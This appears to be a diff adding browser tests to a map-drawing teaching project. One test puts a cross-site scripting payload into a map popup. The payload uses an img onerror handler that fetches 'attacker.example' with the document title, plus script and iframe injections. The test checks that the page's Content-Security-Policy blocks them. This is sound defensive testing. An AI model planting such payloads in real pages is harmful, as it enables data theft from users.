@@ -1,9 +1,12 @@
 """The maps of the line of contact, the alliance and the build-up in JupyterLab, network cut."""
 
+import re
 from itertools import combinations
 
+import folium
 import pytest
 from axe_playwright_python.base import AXE_SCRIPT
+from folium import plugins
 
 import explainer as ex
 from tests.lessons import in_lab
@@ -219,3 +222,66 @@ def test_the_page_scrolls_on_over_a_map_which_zooms_only_when_asked(make, new_pa
     page.mouse.move(2, 2)
     container.hover(position={"x": x, "y": y})
     wheel(100, zooms=False)
+
+
+ATTACK = """<img src="x" onerror="window.hit = 1; fetch('https://attacker.example/?' + document.title)">
+<script>window.hit = 2</script><iframe srcdoc="<script>parent.hit = 3</script>"></iframe>"""
+
+
+@pytest.mark.parametrize("policy", [True, False])
+def test_a_script_in_somebodys_text_runs_only_without_the_policy(policy, new_page, tmp_path):
+    drawn = ex.maps.base(ex.load(), "With a guest")
+    folium.Marker((50, 30), popup=folium.Popup(ATTACK, show=True)).add_to(drawn)
+    text = drawn.get_root().page()
+    if not policy:
+        text = re.sub(r"<meta http-equiv=.Content-Security-Policy[^>]*>", "", text)
+    (tmp_path / "map.html").write_text(text, encoding="utf-8")
+    page = new_page()
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.route("https://**", lambda route: route.abort())
+    page.goto((tmp_path / "map.html").as_uri())
+    page.locator(".leaflet-popup-content").wait_for()
+    page.wait_for_load_state("networkidle")
+    assert bool(page.evaluate("window.hit")) != policy
+    assert any("attacker" in url for url in asked) != policy
+
+
+def test_what_students_add_works_without_a_network(new_page, tmp_path):
+    drawn = ex.maps.base(ex.load(), "With plugins", extent=((44, 22), (53, 41)))
+    cluster = plugins.MarkerCluster().add_to(drawn)
+    for lon in (30.5, 30.6, 30.7):
+        folium.Marker((50, lon), icon=folium.Icon(color="red", icon="home")).add_to(cluster)
+    folium.Marker((46, 30), icon=folium.Icon(color="green")).add_to(drawn)
+    plugins.Fullscreen().add_to(drawn)
+    plugins.MeasureControl().add_to(drawn)
+    plugins.HeatMap([(48, 35), (48.5, 36)]).add_to(drawn)
+    drawn.save(tmp_path / "map.html")
+    page = new_page(viewport={"width": 1000, "height": 600}, reduced_motion="reduce")
+    troubles = []
+    page.on("pageerror", lambda error: troubles.append(str(error)))
+    page.on("request", lambda request: troubles.append(request.url))
+    page.on("console", lambda said: troubles.append(said.text))
+    page.goto((tmp_path / "map.html").as_uri())
+    page.locator(".marker-cluster", has_text="3").wait_for()
+    assert page.locator(".ex-pin path").count() == 1
+    assert page.locator("canvas.leaflet-heatmap-layer").count() == 1
+    page.get_by_role("button", name="Measure a distance").click()
+    container = page.locator(".leaflet-container")
+    for x in (300, 700):
+        container.click(position={"x": x, "y": 400})
+    said = page.locator(".ex-measure [role=status]").inner_text()
+    page.wait_for_function("document.querySelector('.ex-measure [role=status]').textContent")
+    ends = page.evaluate(
+        """() => { const map = Object.values(window).find((one) => one instanceof L.Map);
+        return [300, 700].map((x) => map.containerPointToLatLng([x, 400]))
+          .map(({ lat, lng }) => [lat, lng]); }"""
+    )
+    assert float(said.removesuffix(" km").replace(",", "")) == pytest.approx(
+        ex.geography.between_km(*map(tuple, ends)), rel=0.01
+    )
+    page.get_by_role("button", name="Full Screen").click()
+    page.wait_for_function("document.fullscreenElement")
+    page.get_by_role("button", name="Exit Full Screen").click()
+    page.wait_for_function("!document.fullscreenElement")
+    assert [trouble for trouble in troubles if not trouble.startswith(("file:", "data:"))] == []
